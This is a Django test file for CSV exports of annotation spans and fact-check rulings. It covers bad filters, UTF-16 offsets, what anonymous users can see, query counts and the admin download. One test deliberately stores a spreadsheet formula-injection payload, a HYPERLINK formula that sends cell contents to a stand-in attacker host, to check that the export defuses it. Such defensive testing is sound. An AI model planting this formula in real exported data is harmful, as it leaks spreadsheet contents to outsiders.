"""CSV tables: `?format=csv` on the span and ruling lists, and the admin's download action."""

import csv
import io

import pytest
from django.test import Client

from annotations import services
from annotations.standards import tables
from tests.helpers import body_of

API = "/api/v1/"


def table(response):
    assert response.status_code == 200, body_of(response)[:300]
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    text = body_of(response).decode()
    return list(csv.DictReader(io.StringIO(text, newline="")))


def every_page(client, path, **params):
    rows, url, params = [], API + path, {**params, "page_size": 200}
    while url:
        page = client.get(url, params).json()
        rows += page["results"]
        url, params = page["next"], None
    return rows


# --- Bad input first ---------------------------------------------------------------------------


def test_a_bad_offset_unit_is_a_json_400_naming_it(api, world):
    for path in ("annotations/", "rulings/"):
        response = api().get(API + path, {"format": "csv", "offset_unit": "bytes"})
        assert response.status_code == 400
        assert response["Content-Type"] == "application/json"
        assert "offset_unit" in response.json()


def test_utf16_offsets_are_the_json_list_s(api, world, erin, django_assert_max_num_queries):
    """After the article's emoji, UTF-16 positions run one ahead of code points."""
    client = api(erin)
    query = {"offset_unit": "utf-16"}
    with django_assert_max_num_queries(7):
        spans = table(client.get(API + "annotations/", {**query, "format": "csv"}))
    listed = {a["id"]: a for a in every_page(client, "annotations/", **query)}
    assert {int(r["id"]): (int(r["start"]), int(r["end"])) for r in spans} == {
        pk: (a["start"], a["end"]) for pk, a in listed.items()
    }
    assert any(int(r["start"]) != listed[int(r["id"])]["start"] - 1 for r in spans)
    later = world.published_claim
    assert later.start > world.article.body.index("🔥")
    [row] = [r for r in spans if int(r["id"]) == later.pk]
    assert int(row["start"]) == later.start + 1  # the emoji is two UTF-16 units
    rulings = table(client.get(API + "rulings/", {**query, "format": "csv"}))
    [published] = [r for r in rulings if r["slug"] == world.published.slug]
    assert f"zhanaozen:{later.start + 1}-{later.end + 1}" in published["spans"]


@pytest.mark.parametrize("path", ["annotations/{span}/", "rulings/{ruling}/", "articles/"])
def test_csv_is_for_the_two_lists_only(api, world, path):
    url = API + path.format(span=world.published_claim.pk, ruling=world.published.slug)
    response = api().get(url, {"format": "csv"})
    assert response.status_code == 404 and response["Content-Type"] == "application/json"


def test_a_bad_filter_is_a_json_400(api, world):
    response = api().get(API + "rulings/", {"format": "csv", "status": "nonsense"})
    assert response.status_code == 400 and "status" in response.json()


# --- What the tables hold ----------------------------------------------------------------------


@pytest.mark.parametrize("who", ["anonymous", "erin"])
def test_the_span_table_is_the_list_every_page_of_it(api, world, erin, who):
    client = api(erin) if who == "erin" else api()
    rows = table(client.get(API + "annotations/", {"format": "csv"}))
    listed = every_page(client, "annotations/")
    assert [int(r["id"]) for r in rows] == sorted(a["id"] for a in listed)
    by_id = {a["id"]: a for a in listed}
    for row in rows:
        span = by_id[int(row["id"])]
        assert row["quote"] == span["quote"] and row["kind"] == span["kind"]
        assert (int(row["start"]), int(row["end"])) == (span["start"], span["end"])
        assert row["rulings"].split() == span["rulings"]
        assert row["article"] == span["article"] and row["author"] == span["author"]
    assert list(rows[0]) == list(tables.SPAN_COLUMNS)


def test_anonymous_tables_hold_published_data_only(api, world):
    spans = table(api().get(API + "annotations/", {"format": "csv"}))
    ids = {int(r["id"]) for r in spans}
    assert world.published_claim.pk in ids and world.retracted_claim.pk in ids
    assert not ids & {world.draft_claim.pk, world.review_claim.pk, world.unlinked.pk}
    rulings = table(api().get(API + "rulings/", {"format": "csv"}))
    assert {r["slug"] for r in rulings} == {world.published.slug, world.retracted.slug}


def test_the_ruling_table_follows_the_filters(api, world, erin):
    rows = table(api(erin).get(API + "rulings/", {"format": "csv", "status": "draft"}))
    assert [r["slug"] for r in rows] == [world.draft.slug]
    row = rows[0]
    assert row["statement"] == world.draft.statement and row["status"] == "draft"
    assert row["claimant"] == world.draft.claimant_name
    assert row["spans"] == f"zhanaozen:{world.draft_claim.start}-{world.draft_claim.end}"
    everything = table(api(erin).get(API + "rulings/", {"format": "csv"}))
    assert len(everything) == 4
    # Accept: text/csv chooses it too.
    by_accept = api(erin).get(API + "rulings/", HTTP_ACCEPT="text/csv")
    assert table(by_accept) == everything


def test_hostile_text_stays_text_and_formulas_are_defused(api, world, alice):
    note = '=HYPERLINK("http://evil.example/?"&A1, "click")'
    services.span_update(
        annotation=world.unlinked, user=alice, note=note + "\nsecond line, with a comma"
    )
    [row] = [
        r
        for r in table(api(alice).get(API + "annotations/", {"format": "csv"}))
        if int(r["id"]) == world.unlinked.pk
    ]
    # A spreadsheet shows the apostrophe-led cell as the text typed and runs nothing.
    assert row["note"] == "'" + note + "\nsecond line, with a comma"


def test_queries_do_not_grow_with_the_rows(api, world, erin, alice, django_assert_max_num_queries):
    client = api(erin)
    with django_assert_max_num_queries(6):
        small = table(client.get(API + "annotations/", {"format": "csv"}))
    for i in range(30):
        services.span_create(
            article=world.article, kind="evidence", author=alice, start=i, end=i + 5
        )
    with django_assert_max_num_queries(6):
        big = table(client.get(API + "annotations/", {"format": "csv"}))
    assert len(big) == len(small) + 30


def test_the_admin_downloads_the_selected_rows_as_the_api_does(world, erin, api):
    admin = Client()
    admin.force_login(erin)
    chosen = [world.published.pk, world.draft.pk]
    response = admin.post(
        "/admin/annotations/ruling/", {"action": "download_csv", "_selected_action": chosen}
    )
    assert response["Content-Disposition"] == 'attachment; filename="rulings.csv"'
    rows = table(response)
    assert sorted(r["slug"] for r in rows) == sorted([world.published.slug, world.draft.slug])
    from_api = {r["slug"]: r for r in table(api(erin).get(API + "rulings/", {"format": "csv"}))}
    assert all(from_api[r["slug"]] == r for r in rows)
    spans = admin.post(
        "/admin/annotations/annotation/",
        {"action": "download_csv", "_selected_action": [world.unlinked.pk]},
    )
    assert [int(r["id"]) for r in table(spans)] == [world.unlinked.pk]
